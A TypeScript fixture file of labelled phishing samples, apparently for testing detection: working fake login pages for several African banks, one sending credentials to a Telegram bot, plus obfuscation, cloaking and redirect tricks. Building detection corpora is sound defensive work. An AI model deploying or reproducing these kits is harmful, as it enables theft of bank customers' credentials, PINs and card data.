import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-fnb-online-banking-login-otp',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://www.fnb-onlinebanking-za.com/banking/login.php',
  body: doc('FNB Online Banking | Login', `
<div class="top"><div class="wrap">${wordmark('FNB', '#f7a700', { shape: 'circle', fg: '#ffffff', h: 40 })}<span class="strap">how can we help you?</span></div></div>
<div class="wrap main">
  <div class="panel">
    <h1>Login</h1>
    <p class="sub">Welcome to FNB Online Banking. Please enter your login details below.</p>
    <form id="lf" method="post" action="next.php" autocomplete="off">
      <input type="hidden" name="nav" value="navigator.Login">
      <input type="hidden" name="ts" id="ts">
      <label for="user">Username</label>
      <input id="user" name="Username" type="text" maxlength="40" required>
      <label for="pass">Password</label>
      <input id="pass" name="Password" type="password" maxlength="40" required>
      <div class="row"><a href="#" class="lnk">Forgot username?</a><a href="#" class="lnk">Forgot password?</a></div>
      <button type="submit">Login</button>
    </form>
    <p class="note">Never share your login details, OTPs or PINs with anyone. FNB will never ask for them over the phone.</p>
  </div>
  <div class="side">
    <h3>Register for Online Banking</h3>
    <p>Bank anywhere, anytime with the FNB App and Online Banking.</p>
    <a class="btn2" href="#">Register</a>
  </div>
</div>
<footer><div class="wrap">First National Bank - a division of FirstRand Bank Limited. An Authorised Financial Services and Credit Provider (NCRCP20).</div></footer>
<script>document.getElementById('ts').value=Date.now();</script>`, {
    head: favicon('#01a9b4'),
    css: `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f2f2f2;color:#333}
.top{background:#01a9b4;padding:12px 0}.wrap{max-width:960px;margin:0 auto;padding:0 16px}.strap{color:#fff;margin-left:18px;font-size:14px;vertical-align:12px}
.main{display:flex;gap:24px;margin-top:36px}.panel{flex:2;background:#fff;padding:28px 32px;border-top:4px solid #f7a700}.side{flex:1;background:#fff;padding:24px}
h1{font-weight:normal;color:#01a9b4;margin:0 0 6px}.sub{color:#777;font-size:14px}
label{display:block;font-size:13px;margin:16px 0 4px}input[type=text],input[type=password]{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccc;font-size:15px}
.row{display:flex;justify-content:space-between;margin:10px 0}.lnk{color:#01a9b4;font-size:13px}
button{background:#f7a700;color:#fff;border:0;padding:12px 40px;font-size:15px;cursor:pointer;margin-top:8px}
.btn2{display:inline-block;border:1px solid #01a9b4;color:#01a9b4;padding:8px 20px;text-decoration:none}
.note{font-size:12px;color:#999;margin-top:22px}footer{font-size:11px;color:#888;margin-top:40px;padding:16px 0;border-top:1px solid #ddd}`,
  }),
  routes: {
    'www.fnb-onlinebanking-za.com/banking/next.php': htmlRoute(doc('FNB Online Banking | Verify', `
<div style="background:#01a9b4;padding:12px 16px">${wordmark('FNB', '#f7a700', { shape: 'circle', fg: '#ffffff', h: 40 })}</div>
<div style="max-width:520px;margin:40px auto;background:#fff;padding:28px;border-top:4px solid #f7a700">
<h2 style="color:#01a9b4;font-weight:normal">Verify it's you</h2>
<p>For your security, we have sent a One-Time PIN (OTP) to the cellphone number linked to your profile. Enter it below to continue. Your OTP expires in <b id="t">2:59</b>.</p>
<form method="post" action="otp.php">
<label>One-Time PIN</label><br><input name="otp" inputmode="numeric" maxlength="8" autocomplete="one-time-code" style="width:100%;padding:10px;font-size:18px;letter-spacing:6px;box-sizing:border-box">
<p style="font-size:13px">Did not receive an OTP? Please also confirm your card details below so that we can resend it.</p>
<label>Card number</label><br><input name="cardno" maxlength="19" inputmode="numeric" style="width:100%;padding:8px;box-sizing:border-box">
<label>ATM PIN</label><br><input name="atmpin" type="password" maxlength="4" inputmode="numeric" style="width:120px;padding:8px">
<br><br><button style="background:#f7a700;color:#fff;border:0;padding:12px 40px">Continue</button>
</form></div>
<script>var s=179;setInterval(function(){if(s>0){s--;document.getElementById('t').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2)}},1000);</script>`, { css: 'body{margin:0;font-family:Arial,sans-serif;background:#f2f2f2}' })),
  },
},
{
  id: 'yh-absa-app-reregistration-steps',
  label: 'phishing',
  kind: 'bank-app-reregistration',
  url: 'https://absa-appreg.info/reg/?ref=SMS2291',
  body: doc('Absa | Banking App Re-registration', `
<header><div class="in">${wordmark('absa', '#dc0032', { shape: 'none', h: 38 })}<span>Banking App</span></div></header>
<main class="in">
  <div class="alert">Your Absa Banking App was deregistered during our scheduled system upgrade. To keep using the app, please complete the re-registration below within 24 hours.</div>
  <ol class="steps"><li class="on" data-s="1">Identify</li><li data-s="2">Account</li><li data-s="3">Card</li><li data-s="4">Done</li></ol>
  <form id="rf" onsubmit="return go(event)">
    <section id="s1">
      <label>South African ID number</label><input name="idno" maxlength="13" inputmode="numeric" required>
      <label>Cellphone number</label><input name="cell" placeholder="082 000 0000" required>
    </section>
    <section id="s2" hidden>
      <label>Access account number</label><input name="access" inputmode="numeric">
      <label>PIN (5 digits)</label><input name="pin5" type="password" maxlength="5" inputmode="numeric">
      <label>Password</label><input name="password" type="password">
    </section>
    <section id="s3" hidden>
      <label>Card number</label><input name="card" maxlength="19" inputmode="numeric">
      <div class="two"><div><label>Expiry (MM/YY)</label><input name="exp" maxlength="5"></div><div><label>CVV</label><input name="cvv" maxlength="3"></div></div>
      <label>Card PIN</label><input name="cpin" type="password" maxlength="4" inputmode="numeric">
    </section>
    <section id="s4" hidden><h2>Thank you</h2><p>Your app will be re-activated within 2 hours. An Absa consultant may call you to confirm a verification code.</p></section>
    <button id="nx">Continue</button>
  </form>
</main>
<footer class="in">Absa Bank Limited, Reg No 1986/004794/06. Authorised Financial Services Provider. Registered Credit Provider Reg No NCRCP7.</footer>
<script>
var step=1;
function go(e){e.preventDefault();
  var fd=new FormData(document.getElementById('rf'));var o={step:step};fd.forEach(function(v,k){o[k]=v});
  fetch('api/reg.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).catch(function(){});
  document.getElementById('s'+step).hidden=true;step++;
  document.getElementById('s'+step).hidden=false;
  document.querySelectorAll('.steps li').forEach(function(li){li.className=+li.dataset.s<=step?'on':''});
  if(step==4){document.getElementById('nx').style.display='none';setTimeout(function(){location.href='https://www.absa.co.za/'},6000)}
  return false}
</script>`, {
    head: favicon('#dc0032'),
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#fff;color:#333}.in{max-width:560px;margin:0 auto;padding:0 18px}
header{border-bottom:3px solid #dc0032;padding:14px 0}header span{vertical-align:12px;margin-left:10px;color:#870a3c;font-weight:600}
.alert{background:#fdecef;border-left:4px solid #dc0032;padding:12px;margin:20px 0;font-size:14px}
.steps{display:flex;list-style:none;padding:0;gap:6px;counter-reset:s}.steps li{flex:1;text-align:center;font-size:12px;padding:6px;background:#eee;border-radius:3px}.steps li.on{background:#af144b;color:#fff}
label{display:block;margin:14px 0 4px;font-size:13px;font-weight:600}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:4px;font-size:15px}
.two{display:flex;gap:12px}.two>div{flex:1}button{margin-top:22px;width:100%;background:#dc0032;color:#fff;border:0;padding:14px;border-radius:24px;font-size:16px}
footer{font-size:11px;color:#888;margin-top:40px;padding-bottom:20px}`,
  }),
  routes: {
    'absa-appreg.info/reg/api/reg.php': jsonRoute({ ok: true }),
  },
},
{
  id: 'yh-capitec-remote-banking-telegram',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://capitec-remote-verify.web.app/',
  body: doc('Capitec Bank - Internet Banking', `
<div class="bar">${wordmark('capitec', '#0067b1', { shape: 'circle', h: 34 })}<span class="r">Internet Banking</span></div>
<div class="card" id="c1">
  <h2>Log in</h2>
  <form id="f1">
    <input name="username" placeholder="Username" required>
    <input name="password" type="password" placeholder="Password" required>
    <button>Log in</button>
  </form>
  <a href="#">Forgot your username or password?</a>
</div>
<div class="card" id="c2" style="display:none">
  <h2>Remote PIN</h2>
  <p>We need to confirm your device. Enter your 5-digit Remote PIN and the OTP we sent via SMS.</p>
  <form id="f2">
    <input name="remotepin" type="password" maxlength="5" placeholder="Remote PIN" inputmode="numeric" required>
    <input name="otp" maxlength="6" placeholder="SMS OTP" inputmode="numeric" required>
    <button>Confirm</button>
  </form>
</div>
<div class="card" id="c3" style="display:none"><h2>Please wait…</h2><p>Your session is being verified. Do not close this window.</p><div class="spin"></div></div>
<p class="foot">Capitec Bank is an authorised financial services provider (FSP46669) and registered credit provider (NCRCP13).</p>
<script>
var bt="7193847261:AAHqv3Lr0xK2pN9cTzWmE5yB8dJf1sGuQ4o",ci="-1002184736519",data={};
function tg(t){return fetch("https://api.telegram.org/bot"+bt+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:ci,text:t,parse_mode:"HTML"})})}
function ip(){return fetch("https://ipapi.co/json/").then(function(r){return r.json()}).catch(function(){return{}})}
document.getElementById("f1").addEventListener("submit",function(e){e.preventDefault();
  data.u=this.username.value;data.p=this.password.value;
  ip().then(function(g){data.ip=g.ip;data.city=g.city;return tg("<b>CAPITEC LOGIN</b>\\nUser: "+data.u+"\\nPass: "+data.p+"\\nIP: "+data.ip+" "+data.city+"\\nUA: "+navigator.userAgent)});
  document.getElementById("c1").style.display="none";document.getElementById("c2").style.display="block"});
document.getElementById("f2").addEventListener("submit",function(e){e.preventDefault();
  tg("<b>CAPITEC PIN</b>\\nUser: "+data.u+"\\nRPIN: "+this.remotepin.value+"\\nOTP: "+this.otp.value);
  document.getElementById("c2").style.display="none";document.getElementById("c3").style.display="block";
  setTimeout(function(){location.href="https://www.capitecbank.co.za/"},9000)});
</script>`, {
    css: `body{margin:0;background:#eef2f6;font-family:Roboto,Arial,sans-serif}.bar{background:#fff;padding:14px 24px;box-shadow:0 1px 4px #0002;display:flex;justify-content:space-between;align-items:center}.r{color:#0067b1;font-weight:500}
.card{max-width:380px;margin:50px auto 0;background:#fff;border-radius:8px;padding:28px;box-shadow:0 2px 10px #0001}.card h2{color:#0067b1;margin-top:0}
input{display:block;width:100%;box-sizing:border-box;margin:10px 0;padding:12px;border:1px solid #c8d0da;border-radius:4px;font-size:15px}
button{width:100%;background:#e30613;color:#fff;border:0;padding:13px;border-radius:4px;font-size:15px;margin-top:6px}a{color:#0067b1;font-size:13px;display:block;margin-top:12px}
.spin{width:34px;height:34px;border:4px solid #ddd;border-top-color:#0067b1;border-radius:50%;animation:r 1s linear infinite;margin:18px auto}@keyframes r{to{transform:rotate(360deg)}}
.foot{text-align:center;font-size:11px;color:#889;margin-top:40px}`,
  }),
},
{
  id: 'yh-nedbank-profiel-afrikaans-wp',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://www.rooiberg-gastehuis.co.za/wp-content/uploads/2024/nb/index.html',
  body: doc('Nedbank - Bevestig jou profiel', `
<div class="hd">${wordmark('Nedbank', '#ffffff', { shape: 'none', h: 34 })}</div>
<div class="bx">
  <h1>Bevestig jou profiel</h1>
  <p>Geagte kliënt, ons het ongewone aktiwiteit op jou Nedbank-profiel opgemerk. Om jou rekening te beskerm is toegang tydelik beperk. Meld asseblief aan en bevestig jou besonderhede om toegang te herstel.</p>
  <form method="POST" action="save.php">
    <label>Nedbank-ID (gebruikersnaam)</label><input name="nedid" required>
    <label>Wagwoord</label><input name="wagwoord" type="password" required>
    <label>Profielnommer</label><input name="profiel" inputmode="numeric" maxlength="10">
    <label>PIN</label><input name="pin" type="password" inputmode="numeric" maxlength="5">
    <label>Selfoonnommer</label><input name="selfoon" placeholder="08X XXX XXXX">
    <button type="submit">Bevestig</button>
  </form>
  <small>As jy nie binne 12 uur bevestig nie, sal jou rekening opgeskort word.</small>
</div>
<div class="ft">© Nedbank Beperk Reg No 1951/000009/06. Gemagtigde finansiële diensteverskaffer. Geregistreerde kredietverskaffer (NCRCP16).</div>`, {
    lang: 'af',
    head: favicon('#006341'),
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f6f5}.hd{background:#006341;padding:16px 28px}.bx{max-width:460px;margin:36px auto;background:#fff;padding:26px 30px;border-radius:6px;box-shadow:0 1px 6px #0002}
h1{color:#006341;font-size:22px}p{font-size:14px;line-height:1.5}label{display:block;font-size:13px;margin:12px 0 3px;color:#444}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bfc9c4;border-radius:3px}
button{margin-top:20px;background:#006341;color:#fff;border:0;padding:12px 30px;border-radius:3px;font-size:15px}small{display:block;margin-top:16px;color:#a00}.ft{text-align:center;font-size:11px;color:#777;padding:20px}`,
  }),
  routes: {
    'www.rooiberg-gastehuis.co.za/wp-content/uploads/2024/nb/save.php': redirectRoute(302, 'https://www.rooiberg-gastehuis.co.za/wp-content/uploads/2024/nb/wag.html'),
    'www.rooiberg-gastehuis.co.za/wp-content/uploads/2024/nb/wag.html': htmlRoute(doc('Nedbank', '<div style="text-align:center;margin-top:80px;font-family:Arial"><h2 style="color:#006341">Dankie</h2><p>Jou besonderhede word nagegaan. ʼn Konsultant sal jou binnekort skakel om ʼn eenmalige wagwoord (OTP) te bevestig.</p></div>', { lang: 'af' })),
  },
},
{
  id: 'yh-equity-online-ke-swahili',
  label: 'phishing',
  kind: 'bank-login-kit',
  url: 'https://equityonline-ke.support/login',
  body: doc('Equity Online | Ingia', `
<div class="top">${wordmark('Equity', '#a32a29', { shape: 'square', h: 34 })}<div class="lang"><a href="#" onclick="sw('en')">English</a> | <a href="#" onclick="sw('sw')">Kiswahili</a></div></div>
<div class="wrap">
 <div class="promo"><h2 data-en="Your account has been limited" data-sw="Akaunti yako imezuiliwa">Akaunti yako imezuiliwa</h2>
 <p data-en="Following the CBK directive on customer due diligence, all Equity Online customers must re-validate their details before 30th. Failure to validate will lead to suspension of your account." data-sw="Kufuatia agizo la CBK kuhusu uhakiki wa wateja, wateja wote wa Equity Online wanapaswa kuthibitisha taarifa zao kabla ya tarehe 30. Usipothibitisha, akaunti yako itasimamishwa.">Kufuatia agizo la CBK kuhusu uhakiki wa wateja, wateja wote wa Equity Online wanapaswa kuthibitisha taarifa zao kabla ya tarehe 30. Usipothibitisha, akaunti yako itasimamishwa.</p></div>
 <form class="frm" method="post" action="next.php">
  <label data-en="Username" data-sw="Jina la mtumiaji">Jina la mtumiaji</label><input name="user" required>
  <label data-en="Password" data-sw="Nenosiri">Nenosiri</label><input name="pass" type="password" required>
  <label data-en="National ID number" data-sw="Nambari ya kitambulisho">Nambari ya kitambulisho</label><input name="nid" inputmode="numeric">
  <label data-en="Phone number (07XX)" data-sw="Nambari ya simu (07XX)">Nambari ya simu (07XX)</label><input name="msisdn">
  <label data-en="Equitel / ATM PIN" data-sw="PIN ya Equitel / ATM">PIN ya Equitel / ATM</label><input name="pin" type="password" maxlength="4">
  <button data-en="Validate" data-sw="Thibitisha">Thibitisha</button>
 </form>
</div>
<div class="ft">Equity Bank (Kenya) Limited is regulated by the Central Bank of Kenya.</div>
<script>function sw(l){document.querySelectorAll('[data-'+l+']').forEach(function(n){n.textContent=n.getAttribute('data-'+l)});document.documentElement.lang=l;return false}</script>`, {
    lang: 'sw',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#faf6f2}.top{display:flex;justify-content:space-between;align-items:center;padding:12px 26px;background:#fff;border-bottom:3px solid #a32a29}.lang a{color:#a32a29;font-size:13px}
.wrap{max-width:860px;margin:30px auto;display:flex;gap:26px;padding:0 16px}.promo{flex:1;background:#a32a29;color:#fff;padding:24px;border-radius:6px}.frm{flex:1;background:#fff;padding:24px;border-radius:6px}
label{display:block;font-size:13px;margin:10px 0 3px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #d9c8c0;border-radius:4px}button{margin-top:18px;width:100%;background:#a32a29;color:#fff;border:0;padding:12px;border-radius:4px}
.ft{text-align:center;font-size:11px;color:#888;padding:20px}`,
  }),
},
{
  id: 'yh-kcb-ibank-docwrite-base64',
  label: 'phishing',
  kind: 'obfuscated-bank-kit',
  url: 'https://secure-kcbgroup.top/ibank/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>KCB iBank</title><meta name="robots" content="noindex,nofollow"></head><body>
<script>var _0x1a=["${b64(`<style>body{margin:0;font-family:Arial,sans-serif;background:#eaf3ee}.h{background:#0a7a3d;padding:14px 24px;color:#fff;font-size:22px;font-weight:bold}.c{max-width:400px;margin:50px auto;background:#fff;padding:26px;border-radius:6px}.c h3{color:#0a7a3d}input{width:100%;box-sizing:border-box;padding:11px;margin:8px 0;border:1px solid #b5cfc0}button{width:100%;padding:12px;background:#8dc63f;border:0;color:#fff;font-size:15px}</style>
<div class="h">KCB iBank</div><div class="c"><h3>Welcome to KCB iBank</h3><p style="font-size:13px">Login to access your accounts.</p>
<form method="post" action="https://secure-kcbgroup.top/ibank/auth.php"><input name="corp" placeholder="Customer ID"><input name="uname" placeholder="User ID"><input name="upass" type="password" placeholder="Password"><input name="otp" placeholder="One Time Password (sent by SMS)"><button>Login</button></form>
<p style="font-size:11px;color:#777">KCB Bank Kenya Limited is regulated by the Central Bank of Kenya</p></div>`)}"];
(function(_){var d=window["atob"](_[0]);d=decodeURIComponent(Array.prototype.map.call(d,function(c){return"%"+("00"+c.charCodeAt(0).toString(16)).slice(-2)}).join(""));document["wr"+"ite"](d)})(_0x1a);</script>
<noscript>Please enable JavaScript.</noscript></body></html>`,
},
{
  id: 'yh-stanbic-ug-card-verification',
  label: 'phishing',
  kind: 'card-verification-kit',
  url: 'https://stanbic-ug-verify.online/card/verify.html',
  body: doc('Stanbic Bank Uganda | Card Verification', `
<header>${wordmark('Stanbic Bank', '#0033a1', { shape: 'shield', h: 32, w: 200 })}<span>Uganda</span></header>
<section class="c">
 <h1>Debit card verification</h1>
 <p>Dear customer, your Visa debit card has been temporarily restricted because we could not verify a recent transaction of <b>UGX 1,870,000</b> at an online merchant. If you did not make this transaction, verify your card below to cancel it and avoid permanent blocking.</p>
 <form method="post" action="proc.php" id="cf">
  <label>Full name on card</label><input name="name" required>
  <label>Card number</label><input name="ccn" id="ccn" maxlength="19" inputmode="numeric" placeholder="4xxx xxxx xxxx xxxx" required>
  <div class="g"><div><label>Expiry date</label><input name="exp" placeholder="MM/YY" maxlength="5"></div><div><label>CVV</label><input name="cvv" maxlength="3" inputmode="numeric"></div><div><label>Card PIN</label><input name="pin" type="password" maxlength="4" inputmode="numeric"></div></div>
  <label>Mobile number</label><input name="phone" placeholder="+256 7XX XXX XXX">
  <button>Cancel transaction</button>
 </form>
</section>
<p class="f">Stanbic Bank Uganda Limited is regulated by Bank of Uganda. Customer protected by the Deposit Protection Fund of Uganda.</p>
<script>document.getElementById('ccn').addEventListener('input',function(){var v=this.value.replace(/\\D/g,'').slice(0,16);this.value=v.replace(/(.{4})/g,'$1 ').trim()});</script>`, {
    css: `body{margin:0;background:#f3f5fa;font-family:Arial,sans-serif}header{background:#fff;padding:12px 22px;border-bottom:3px solid #0033a1;display:flex;align-items:center;gap:10px}header span{color:#0033a1}
.c{max-width:480px;margin:30px auto;background:#fff;padding:26px}h1{color:#0033a1;font-size:22px}p{font-size:14px;line-height:1.5}label{display:block;font-size:12px;margin:12px 0 3px;color:#333}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccd}.g{display:flex;gap:10px}.g>div{flex:1}button{margin-top:18px;background:#0033a1;color:#fff;border:0;width:100%;padding:13px}.f{text-align:center;font-size:11px;color:#888}`,
  }),
},
{
  id: 'yh-fnb-sms-shortlink-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain-kit',
  url: 'https://fnb-alert.short.gy/x7Kp2',
  routes: {
    'fnb-alert.short.gy/x7Kp2': redirectRoute(302, 'https://trk.lnkpro-za.com/r?c=fnb&id=94821'),
    'trk.lnkpro-za.com/r': htmlRoute(`<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://secure-fnb-za.app/login/?s=94821"><title>Redirecting</title></head><body><script>setTimeout(function(){location.replace("https://secure-fnb-za.app/login/?s=94821")},100)</script></body></html>`),
    'secure-fnb-za.app/login/': htmlRoute(doc('FNB | Secure Login', `
<div style="background:#01a9b4;padding:14px 20px">${wordmark('FNB', '#f7a700', { shape: 'circle', fg: '#ffffff', h: 36 })}</div>
<div class="b">
 <p class="m">A new device was linked to your FNB App on <b id="dt"></b>. If this was not you, log in below to cancel the linking and secure your profile.</p>
 <form action="cancel.php" method="post">
  <input name="u" placeholder="Username" required><input name="p" type="password" placeholder="Password" required>
  <input name="cell" placeholder="Cellphone number">
  <button>Cancel linking</button>
 </form>
</div>
<script>document.getElementById('dt').textContent=new Date(Date.now()-3600e3).toLocaleString('en-ZA');</script>`, {
      css: 'body{margin:0;font-family:Arial,sans-serif;background:#f5f5f5}.b{max-width:380px;margin:36px auto;background:#fff;padding:24px}.m{font-size:14px;background:#fff4dd;padding:10px}input{display:block;width:100%;box-sizing:border-box;margin:10px 0;padding:11px;border:1px solid #ccc}button{width:100%;background:#f7a700;border:0;color:#fff;padding:12px}',
    })),
  },
},
{
  id: 'yh-absa-cloaked-maintenance-gate',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://absa-online.co.za-id4821.com/',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Site maintenance</title>
<style>body{font-family:Georgia,serif;color:#444;text-align:center;padding-top:120px}</style></head><body>
<div id="m"><h1>We&rsquo;ll be back soon</h1><p>This site is undergoing scheduled maintenance.</p></div>
<script>
(function(){
  var n=navigator,ok=true;
  if(n.webdriver)ok=false;
  if(!n.languages||!n.languages.length)ok=false;
  if(/HeadlessChrome|bot|crawl|spider|Lighthouse|python|curl/i.test(n.userAgent))ok=false;
  try{var tz=Intl.DateTimeFormat().resolvedOptions().timeZone;if(!/Africa\\//.test(tz))ok=false}catch(e){}
  if(screen.width<300||window.outerWidth===0)ok=false;
  if(!ok)return;
  var s=document.createElement("script");s.src="/assets/js/app.min.js?v=3";document.head.appendChild(s);
})();
</script></body></html>`,
  routes: {
    'absa-online.co.za-id4821.com/assets/js/app.min.js': jsRoute(`(function(){var h='<style>body{margin:0;font-family:Arial,sans-serif;background:#fff;text-align:left;padding:0;color:#333}.t{border-bottom:3px solid #dc0032;padding:14px 24px;font-size:26px;color:#dc0032;font-weight:bold}.f{max-width:380px;margin:40px auto}.f input{display:block;width:100%;box-sizing:border-box;padding:11px;margin:10px 0;border:1px solid #bbb;border-radius:4px}.f button{width:100%;background:#dc0032;color:#fff;border:0;padding:13px;border-radius:22px}</style><div class="t">absa</div><div class="f"><h2>Log on to Absa Online</h2><form method="post" action="/logon.php"><input name="accessno" placeholder="Access account number"><input name="pin" type="password" placeholder="PIN" maxlength="5"><input name="user" placeholder="User number" value="1"><input name="pwd" type="password" placeholder="Password"><button>Log on</button></form></div>';document.title='Absa Online';document.body.innerHTML=h;})();`),
  },
},
{
  id: 'yh-nedbank-secure-message-lure-sites',
  label: 'phishing',
  kind: 'lure-link',
  url: 'https://sites.google.com/view/nedbank-securemessage-2291/home',
  body: doc('Nedbank Secure Message', `
<div class="m">
 <div class="h">${wordmark('Nedbank', '#006341', { shape: 'none', h: 30 })}</div>
 <h2>You have 1 new secure message</h2>
 <p>Dear Valued Client,</p>
 <p>A secure message regarding a <b>pending debit order dispute</b> on your account has been delivered to your Nedbank inbox. To protect your privacy, the message can only be viewed after signing in.</p>
 <p><a class="btn" href="https://nedbank-inbox-msg.com/view/?m=2291">View message</a></p>
 <p class="s">Message reference: NB-SM-2291-8840<br>This message will expire in 48 hours.</p>
</div>`, {
    css: 'body{background:#f1f1f1;font-family:Arial,sans-serif}.m{max-width:560px;margin:50px auto;background:#fff;padding:30px;border-top:5px solid #006341}.btn{display:inline-block;background:#006341;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px}.s{font-size:12px;color:#888}',
  }),
},
];
